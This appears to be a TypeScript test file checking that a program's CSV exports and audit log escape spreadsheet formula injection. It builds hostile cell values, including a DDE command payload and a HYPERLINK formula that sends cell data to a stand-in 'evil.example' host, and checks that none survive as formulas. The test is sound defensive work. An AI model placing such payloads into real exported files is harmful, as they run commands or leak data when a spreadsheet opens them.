/** No table that leaves the program runs in a spreadsheet: every writer, every cell. */
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { guarded } from "../../../main/engine/reference-data/rejected-rows.ts";
import { AUDIT_FORMATS } from "../../../main/engine/services/audit-file.ts";
import { csvFile } from "../../../renderer/print/csv.ts";

/** What a spreadsheet begins a formula with; the last four are the full-width spellings. */
const STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];
const FORMULAS = STARTS.flatMap((start) => [
  `${start}cmd|' /C calc'!A0`,
  `${start}HYPERLINK("http://evil.example?"&A1,"x")`,
  `'${start}1`.slice(1),
]);
const PLAIN_NUMBER = /^[+-]?\d+(?:\.\d+)?$/;
/** Would a spreadsheet run it? A plain number it only reads. */
const runs = (cell: string): boolean =>
  STARTS.some((start) => cell.startsWith(start)) && !PLAIN_NUMBER.test(cell);

const cellsOf = (csv: string): string[][] => parse(csv, { bom: true, relax_column_count: true });

const auditCsv = (subject: string, details: string) =>
  AUDIT_FORMATS.csv.row({
    ...{ sequence: 1, at: 0, user_id: 501, device_id: subject, action: subject, subject, details },
    ...{ previous_hash: "0", hash: "1" },
  });

/** Each takes any text into its table, and gives the table. */
const WRITERS: [string, (text: string) => string][] = [
  [
    "the worksheet",
    (text) =>
      csvFile([
        [text, "plain"],
        ["plain", text],
      ]),
  ],
  ["the activity", (text) => auditCsv(text, JSON.stringify({ text }))],
];

describe.each(WRITERS)("%s as a table", (_, write) => {
  it("holds no formula, whatever somebody typed", () => {
    for (const text of FORMULAS) expect(cellsOf(write(text)).flat().filter(runs), text).toEqual([]);
    fc.assert(
      fc.property(fc.constantFrom(...STARTS), fc.string(), (start, rest) => {
        expect(
          cellsOf(write(start + rest))
            .flat()
            .filter(runs),
        ).toEqual([]);
      }),
    );
  });

  it("keeps a text in its own cell: no quote, break or separator of another country lets it out", () => {
    for (const text of ['a";=1', "a;=1", "a\t=1", "a\n=1", "a\r\n=1", 'a",=1', "a|=1"])
      expect(cellsOf(write(text)).flat().filter(runs), text).toEqual([]);
  });
});

it("rejected rows are guarded too, and come back as they were", () => {
  for (const text of FORMULAS) expect(runs(guarded(text)), text).toBe(false);
  expect(guarded("-5.25")).toBe("-5.25");
  expect(guarded("'=1")).toBe("''=1");
});

it("would notice a writer that guards nothing", () => {
  expect(cellsOf('"=1+1","x"').flat().filter(runs)).toEqual(["=1+1"]);
});
